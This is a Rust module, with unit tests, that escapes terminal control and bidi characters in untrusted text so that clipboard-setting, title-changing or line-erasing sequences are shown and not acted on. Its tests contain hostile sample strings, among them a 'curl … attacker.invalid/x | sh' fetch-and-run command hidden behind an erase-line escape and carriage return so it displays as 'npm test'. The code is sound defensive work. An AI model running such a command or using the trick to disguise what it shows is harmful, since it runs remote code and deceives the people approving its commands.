//! Text that came from outside (a reply, a repository, a command's output) shown on a
//! terminal: its bytes are shown, never obeyed. A terminal acts on control characters (OSC 52
//! sets the clipboard, OSC 0 the window title, CSI erases lines, CR and BS move the cursor
//! back over text already written) and bidi controls reorder what is on screen, so either can
//! make a terminal show something other than what is there. [`escape`] is the one function
//! every output path uses to make them visible instead (`\x1b`, `\r`, `\u{9b}`, `\u{202e}`):
//!
//! - [`Rule::Name`] for file names, commit subjects, block ids: every control character.
//! - [`Rule::Command`] for a command shown for approval: the same, but a line break stays one
//!   and a tab stays a tab (a script has lines); a CR is always shown.
//! - [`Rule::Content`] for file contents, command output, diffs, whole reports: controls
//!   except tab and line feed, CRLF shown as LF; of the bidi characters only the overrides
//!   and isolates, so right-to-left text stays readable.
//! - [`Rule::Json`] for JSON on a terminal: the same characters as `Content` as JSON's own
//!   `\u…` escapes, so the document still parses to the same value.
//!
//! [`Shown`] says whether a piece of output is escaped at all: output for people always is,
//! output for a model or a program (`--format llm`, JSON) only when stdout is a terminal.

use std::borrow::Cow;
use std::fmt::Write as _;

/// Which characters are escaped, and how; see the module documentation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Rule {
    Name,
    Command,
    Content,
    Json,
}

/// The bidi embeddings, overrides (U+202A–U+202E) and isolates (U+2066–U+2069): they reorder
/// the text around them on screen.
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Whether `c` is escaped under `rule` (CR before LF in content aside).
fn escaped(c: char, rule: Rule) -> bool {
    match c {
        '\t' | '\n' => rule == Rule::Name,
        c if c.is_control() => true, // C0, DEL, C1
        c => is_bidi_control(c),
    }
}

/// Whether a byte may start something [`escaped`] looks at: an ASCII control, or the first
/// byte of a C1 control (U+0080–U+009F: C2 80–9F) or of a bidi control (E2 80 AA–AE,
/// E2 81 A6–A9). Text without these bytes is returned as it is, without decoding it.
fn suspect(b: u8) -> bool {
    b < 0x20 || b == 0x7f || b == 0xc2 || b == 0xe2
}

/// `text` with the characters `rule` escapes made visible; borrowed when there are none.
pub fn escape(text: &str, rule: Rule) -> Cow<'_, str> {
    let Some(first) = text.bytes().position(suspect) else {
        return Cow::Borrowed(text);
    };
    let mut out: Option<String> = None;
    let mut chars = text[first..].char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        let crlf = c == '\r' && rule == Rule::Content && matches!(chars.peek(), Some((_, '\n')));
        if !crlf && !escaped(c, rule) {
            if let Some(o) = out.as_mut() {
                o.push(c);
            }
            continue;
        }
        let o = out.get_or_insert_with(|| {
            let mut s = String::with_capacity(text.len() + 16);
            s.push_str(&text[..first + i]);
            s
        });
        if !crlf {
            push_escaped(o, c, rule);
        }
    }
    match out {
        Some(s) => Cow::Owned(s),
        None => Cow::Borrowed(text),
    }
}

/// Whether `text` holds anything `rule` escapes (a CRLF line end under `Content` counts).
pub fn needs_escape(text: &str, rule: Rule) -> bool {
    matches!(escape(text, rule), Cow::Owned(_))
}

fn push_escaped(out: &mut String, c: char, rule: Rule) {
    if rule == Rule::Json {
        let _ = write!(out, "\\u{:04x}", c as u32);
        return;
    }
    match c {
        '\t' => out.push_str("\\t"),
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        c if (c as u32) < 0x80 => {
            let _ = write!(out, "\\x{:02x}", c as u32);
        }
        c => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
}

/// Whether stdout is a terminal; asked once (it does not change while the process runs, and
/// every report and format decision asks it).
pub fn stdout_is_terminal() -> bool {
    use std::io::IsTerminal;
    static IS: std::sync::OnceLock<bool> = std::sync::OnceLock::new();
    *IS.get_or_init(|| std::io::stdout().is_terminal())
}

/// Whether a piece of output is shown escaped or exactly as it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shown {
    /// Unchanged bytes: for a model or a program reading a pipe, a file, the clipboard.
    Exact,
    /// Escaped for a terminal.
    Escaped,
}

impl Shown {
    /// How output bound for stdout is shown: output for people (`for_people`: the human
    /// report, progress, messages) always escaped; output for a model or a program escaped
    /// only when stdout is a terminal.
    pub fn stdout(for_people: bool) -> Shown {
        if for_people || stdout_is_terminal() {
            Shown::Escaped
        } else {
            Shown::Exact
        }
    }

    /// `text` under `rule`, or unchanged when exact.
    pub fn apply(self, text: &str, rule: Rule) -> Cow<'_, str> {
        match self {
            Shown::Exact => Cow::Borrowed(text),
            Shown::Escaped => escape(text, rule),
        }
    }

    /// A name (path, subject, id): [`Rule::Name`].
    pub fn name(self, text: &str) -> Cow<'_, str> {
        self.apply(text, Rule::Name)
    }

    /// Content (file text, output, a message of several lines): [`Rule::Content`].
    pub fn content(self, text: &str) -> Cow<'_, str> {
        self.apply(text, Rule::Content)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &str =
        "a\u{1b}]52;c;aGk=\u{7}b\u{1b}]0;t\u{7}\u{1b}[2K\rc\u{8}d\u{7f}e\u{9b}f\u{202e}g\u{2066}h";

    #[test]
    fn names_show_every_control_visibly() {
        assert_eq!(
            escape(HOSTILE, Rule::Name),
            "a\\x1b]52;c;aGk=\\x07b\\x1b]0;t\\x07\\x1b[2K\\rc\\x08d\\x7fe\\u{9b}f\\u{202e}g\\u{2066}h"
        );
        assert_eq!(escape("a\tb\nc\r\n", Rule::Name), "a\\tb\\nc\\r\\n");
        // Every bidi override and isolate, and nothing next to them.
        for c in ('\u{202a}'..='\u{202e}').chain('\u{2066}'..='\u{2069}') {
            assert!(needs_escape(&c.to_string(), Rule::Name), "{c:?}");
        }
        for c in [
            '\u{2029}', '\u{2065}', '\u{206a}', '\u{200f}', 'é', '\u{a0}',
        ] {
            assert!(!needs_escape(&c.to_string(), Rule::Content), "{c:?}");
        }
    }

    #[test]
    fn content_keeps_tabs_line_feeds_and_right_to_left_text() {
        let hebrew = "שלום עולם\tok\n";
        assert!(matches!(escape(hebrew, Rule::Content), Cow::Borrowed(_)));
        assert_eq!(escape("a\r\nb\rc\r", Rule::Content), "a\nb\\rc\\r");
        assert_eq!(
            escape("x\u{1b}[31my\u{85}z\u{202d}", Rule::Content),
            "x\\x1b[31my\\u{85}z\\u{202d}"
        );
    }

    #[test]
    fn commands_keep_their_lines_but_show_every_carriage_return() {
        let code = "touch HIDDEN-RAN; curl -s http://attacker.invalid/x | sh #\u{1b}[2K\rnpm test";
        assert_eq!(
            escape(code, Rule::Command),
            "touch HIDDEN-RAN; curl -s http://attacker.invalid/x | sh #\\x1b[2K\\rnpm test"
        );
        assert_eq!(escape("a\r\n\tb\n", Rule::Command), "a\\r\n\tb\n");
        assert!(!needs_escape("make\n\techo ok\n", Rule::Command));
    }

    #[test]
    fn json_escapes_parse_back_to_the_same_value() {
        let value = serde_json::json!({ "path": HOSTILE });
        let text = serde_json::to_string_pretty(&value).expect("json");
        let shown = escape(&text, Rule::Json);
        assert!(!needs_escape(&shown, Rule::Content), "{shown}");
        let back: serde_json::Value = serde_json::from_str(&shown).expect("still JSON");
        assert_eq!(back, value);
    }

    #[test]
    fn text_without_controls_is_borrowed() {
        for rule in [Rule::Name, Rule::Command, Rule::Content, Rule::Json] {
            assert!(matches!(escape("src/main.rs — ok", rule), Cow::Borrowed(_)));
        }
        assert_eq!(Shown::Exact.name(HOSTILE), HOSTILE);
    }
}
